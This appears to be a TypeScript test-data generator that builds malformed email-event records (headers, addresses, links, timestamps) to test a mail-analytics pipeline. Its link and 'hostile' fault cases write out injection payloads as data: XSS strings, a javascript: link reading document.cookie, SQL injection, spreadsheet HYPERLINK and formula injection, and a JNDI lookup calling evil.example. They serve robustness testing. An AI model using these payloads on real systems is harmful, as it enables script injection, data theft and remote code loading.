/** Generates faults 27 to 34 of test/README.md: unusual headers, addresses, links, times and hostile text. */
import { DAY_MS, HOUR_MS } from '#lake/days.ts';
import { PERSONAL_AGENTS } from '../sender/agents.ts';
import { isoOf, rfc5322, SECOND, startOfDay } from '../sender/calendar.ts';
import { bounceOf } from '../sender/life.ts';
import type { Happening, Mail } from '../sender/mail.ts';
import type { Recipient } from '../sender/people.ts';
import { type Bench, delivered, lines, recordOf, sent, swapped } from './bench.ts';

/** Faults 27 to 34: headers, addresses, links, times, hostile text. */
export const CONTENT_FAULTS: readonly (readonly [row: number, make: (bench: Bench) => void])[] = [
  [27, headers],
  [28, addresses],
  [29, fifty],
  [30, links],
  [31, times],
  [32, absurdTimes],
  [34, hostile],
];

const HEADERS = /"headers":\[.*\],"commonHeaders"/;

function headers(bench: Bench): void {
  const withHeaders = (list: readonly string[]): string => {
    const mail = bench.letter();
    const [record = ''] = bench.book(mail, [sent(mail)], list.length);
    return swapped(record, HEADERS, `"headers":[${list.join(',')}],"commonHeaders"`);
  };
  const header = (name: string, value: string): string => `{"name":"${name}","value":"${value}"}`;
  const bare = bench.letter();
  const [naked = ''] = bench.book(bare, [sent(bare)], 0);
  const records = [
    withHeaders(
      Array.from({ length: 1000 }, (_, k) => header(k % 10 === 0 ? 'Received' : `X-Header-${k}`, `value ${k}`)),
    ),
    withHeaders([
      header('X-Tag', 'one'),
      header('X-Tag', 'two'),
      header('x-tag', 'three'),
      header('Message-ID', 'null'),
    ]),
    withHeaders([header('X-Long', 'v'.repeat(300_000)), header('Subject', 'Fault 27')]),
    withHeaders([]),
    swapped(naked, /"headers":\[.*\],"commonHeaders":\{.*?\},"tags"/, '"tags"'),
  ];
  bench.put(lines(records), [['rows', records.length]], { ending: '.gz', gzip: true });
}

const recipient = (address: string, key: string, provider: string): Recipient => ({
  address,
  key,
  provider,
  isSimulator: false,
});

function addresses(bench: Bench): void {
  const each = [
    recipient('Anna Meyer <anna.28@gmail.com>', 'anna.28@gmail.com', 'gmail'),
    recipient('"Meyer, Anna" <meyer.28@outlook.com>', 'meyer.28@outlook.com', 'microsoft'),
    recipient('"john doe"@example.org', '"john doe"@example.org', 'other'),
    recipient('Carl.28@EXAMPLE.NET', 'carl.28@example.net', 'other'),
    recipient('  dora.28@Hotmail.com ', 'dora.28@hotmail.com', 'microsoft'),
    recipient('info.28@müller-druck.example', 'info.28@müller-druck.example', 'other'),
    recipient('=?UTF-8?B?SsO2cmc=?= <joerg.28@gmx.de>', 'joerg.28@gmx.de', 'gmx'),
    recipient('no-at-sign', 'no-at-sign', 'other'),
    recipient('', '', 'other'),
  ];
  const records = each.map((one) => bench.good(bench.letter({}, [one])));
  const two = [
    recipient('kai.28@web.de', 'kai.28@web.de', 'web.de'),
    recipient('lea.28@aol.com', 'lea.28@aol.com', 'yahoo'),
  ];
  const joined = swapped(
    bench.good(bench.letter({}, two)),
    '"destination":["kai.28@web.de","lea.28@aol.com"]',
    '"destination":["kai.28@web.de, lea.28@aol.com"]',
  );
  bench.put(lines([...records, joined]), [['rows', records.length + 1]]);
}

function fifty(bench: Bench): void {
  const people = Array.from({ length: 50 }, (_, k) =>
    recipient(
      `member${k}.29@${k % 2 ? 'gmail.com' : 'yahoo.com'}`,
      `member${k}.29@${k % 2 ? 'gmail.com' : 'yahoo.com'}`,
      k % 2 ? 'gmail' : 'yahoo',
    ),
  );
  const mail = bench.letter({}, people);
  const said = { status: '5.1.1', diagnostic: 'smtp; 550 5.1.1 unknown', enhancedStatus: '5.1.1' };
  const bounce = bounceOf('hard', 'NoEmail', mail.sentAt + 3 * SECOND, 7, said, 'mx.example.org', bench.random);
  const happenings: Happening[] = [
    sent(mail),
    { ...bounce, who: [7, 31] },
    { ...delivered(mail), who: people.map((_, k) => k).filter((k) => k !== 7 && k !== 31) },
    opened(mail, HOUR_MS, null),
    opened(mail, 2 * HOUR_MS, null),
  ];
  bench.put(lines(bench.book(mail, happenings)), [['rows', happenings.length]]);
}

const DESKTOP = PERSONAL_AGENTS.at(-3) ?? '';

const opened = (mail: Mail, after: number, who: readonly number[] | null): Happening => ({
  type: 'open',
  at: mail.sentAt + after,
  who,
  ip: '203.0.113.7',
  agent: DESKTOP,
  isHuman: true,
});

/** Sent, delivered, and clicked by a person an hour later. */
function clicked(bench: Bench, mail: Mail, link: string): string[] {
  const click: Happening = {
    type: 'click',
    at: mail.sentAt + HOUR_MS,
    who: [0],
    ip: '203.0.113.8',
    agent: DESKTOP,
    link,
    isUnsubscribe: false,
    isHuman: true,
  };
  return bench.book(mail, [sent(mail), delivered(mail), click]);
}

function links(bench: Bench): void {
  const odd = [
    `https://shop.example/long?q=${'0123456789abcdef'.repeat(4096)}`,
    'not a url',
    'mailto:help@harborbooks.example?subject=Hi',
    'javascript:alert(document.cookie)',
    'https://bücher.example/straße?utm_source=Größe',
    'https://shop.example/%zz?utm_campaign=%E0%A4%A&x=%',
    'https://shop.example/plain',
    'example.org:8080/where',
  ];
  const records = odd.flatMap((link) => clicked(bench, bench.letter(), link));
  bench.put(lines(records), [['rows', records.length]], { ending: '.gz', gzip: true });
}

function times(bench: Bench): void {
  const midnight = startOfDay(bench.at) + DAY_MS;
  const noon = midnight - 12 * HOUR_MS;
  const day = isoOf(noon).slice(0, 10);
  const written: readonly (readonly [at: number, text: string])[] = [
    [noon, `${noon}`],
    [noon, `"${noon}"`],
    [noon, `"${day}T12:00:00.000Z"`],
    [noon, `"${day}T12:00:00Z"`],
    [noon, `"${day}T05:00:00-07:00"`],
    [noon, `"${day}T14:00:00+0200"`],
    [noon, `"${day}T12:00:00"`],
    [noon, `"${day} 12:00:00.000"`],
    [noon, `"${day}T12:00:00 +0000"`],
    [noon, `"${rfc5322(noon)}"`],
    [midnight, `"${day}T23:59:60Z"`],
    [midnight, `"${day}T24:00:00Z"`],
  ];
  const records = written.map(([at, text]) => timed(bench, bench.letter({}, undefined, noon - HOUR_MS), at, text));
  const unreadable = ['"yesterday"', '"2026-13-45T00:00:00Z"', '"12:00"'].map((text) => {
    const mail = bench.letter();
    return withTime(recordOf(mail, delivered(mail)), text);
  });
  bench.put(lines([...records, ...unreadable]), [
    ['rows', records.length],
    ['Q timestamp', unreadable.length],
  ]);
  const mail = bench.pinpointLetter();
  const [pinpoint = ''] = bench.book(mail, [delivered(mail)]);
  const atText = swapped(pinpoint, /"arrival_timestamp":(\d+)/, `"arrival_timestamp":"${mail.sentAt + 2 * SECOND}"`);
  const rfc = swapped(atText, /"message_send_timestamp":\d+/, `"message_send_timestamp":"${rfc5322(mail.sentAt)}"`);
  bench.put(rfc, [['rows', 1]], { folder: 'pinpoint', stream: 'pinpoint-events' });
}

/** A delivery at an instant, counted as that and written as `text`. */
function timed(bench: Bench, mail: Mail, at: number, text: string): string {
  bench.book(mail, [delivered(mail, at)]);
  return withTime(recordOf(mail, delivered(mail)), text);
}

const withTime = (record: string, text: string): string =>
  swapped(record, /"delivery":\{"timestamp":"[^"]*"/, `"delivery":{"timestamp":${text}`);

function absurdTimes(bench: Bench): void {
  const ahead = bench.at + 5 * DAY_MS;
  const written: readonly (readonly [at: number, text: string])[] = [
    [-5, '-5'],
    [SECOND, '"1970-01-01T00:00:01Z"'],
    // microseconds where milliseconds are meant
    [1_764_000_000_000_000, '1764000000000000'],
    [ahead, `"${isoOf(ahead)}"`],
  ];
  const records = written.flatMap(([at, text]) => {
    const mail = bench.letter();
    bench.book(mail, [sent(mail), delivered(mail, at)]);
    return [recordOf(mail, sent(mail)), withTime(recordOf(mail, delivered(mail)), text)];
  });
  bench.put(lines(records), [['rows', records.length]]);
}

/** Fault 33: one object with mail of so many days before the period. */
export function manyDates(bench: Bench, dates: number): void {
  const records = Array.from({ length: dates }, (_, k) => {
    const mail = bench.letter({}, undefined, bench.period.firstDay - (k + 1) * DAY_MS + 12 * HOUR_MS);
    return bench.book(mail, [delivered(mail)])[0] ?? '';
  });
  bench.put(lines(records), [['rows', dates]], { ending: '.gz', gzip: true });
}

function hostile(bench: Bench): void {
  const texts = [
    '<script>alert(1)</script>',
    `'; drop table events; --`,
    '=HYPERLINK("http://evil.example","click")',
    '+1+1',
    '@SUM(A1)',
    '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
    `${'$'}{jndi:ldap://evil.example/a}`,
    '"><img src=x onerror=alert(1)>',
  ];
  const records = texts.flatMap((text) => {
    const mail = bench.letter({ subject: text, campaignId: `fault-34 ${text}`, treatmentId: text });
    return clicked(bench, mail, `https://shop.example/?q=${text}`);
  });
  bench.put(lines(records), [['rows', records.length]], { ending: '.gz', gzip: true });
}
